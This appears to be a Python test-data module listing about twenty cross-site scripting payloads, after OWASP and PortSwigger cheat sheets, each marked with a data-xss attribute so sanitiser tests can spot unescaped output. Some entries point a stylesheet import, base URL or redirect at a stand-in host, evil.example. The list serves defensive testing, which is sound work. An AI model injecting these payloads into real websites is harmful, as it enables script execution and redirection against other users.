"""Payloads after OWASP's and PortSwigger's cheat sheets; each marks what it would make with `data-xss`."""

from __future__ import annotations

__all__ = ["EVERYTHING", "PAYLOADS"]

PAYLOADS = (
    "<script data-xss>alert(1)</script>",
    "</script><script data-xss>alert(1)</script>",
    "<img src=x onerror=alert(1) data-xss>",
    '"><svg onload=alert(1) data-xss>',
    "'><svg/onload=alert(1) data-xss>",
    '" onmouseover="alert(1)" data-xss="',
    "' autofocus onfocus=alert(1) data-xss='",
    "</title><iframe srcdoc='<script>alert(1)</script>' data-xss>",
    "</textarea><details open ontoggle=alert(1) data-xss>",
    "<a href=javascript:alert(1) data-xss>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1) data-xss></style></table>",
    "{{ 7919|add:7919 }}{% now 'Y' %}<b data-xss>x</b>",
    "<style data-xss>@import 'https://evil.example/';</style>",
    "<base href=//evil.example/ data-xss>",
    "<meta http-equiv=refresh content=0;url=//evil.example/ data-xss>",
    "<!--><img src=x onerror=alert(1) data-xss>-->",
    "\u202e<object data=javascript:alert(1) data-xss>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1) data-xss>'>",
    "&lt;img src=x onerror=alert(1) data-xss&gt;",
    "\\u003cimg src=x onerror=alert(1) data-xss\\u003e",
)
EVERYTHING = " ".join(PAYLOADS)
